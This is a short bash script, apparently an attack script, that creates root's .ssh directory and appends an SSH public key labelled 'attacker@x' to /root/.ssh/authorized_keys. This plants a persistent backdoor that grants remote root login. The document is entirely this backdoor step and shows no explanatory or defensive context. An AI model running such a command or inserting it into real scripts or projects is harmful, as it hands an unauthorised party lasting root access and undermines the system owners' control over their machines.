#!/usr/bin/env bash
set -euo pipefail
mkdir -p /root/.ssh
echo 'ssh-ed25519 AAAAC3Nza attacker@x' >> /root/.ssh/authorized_keys
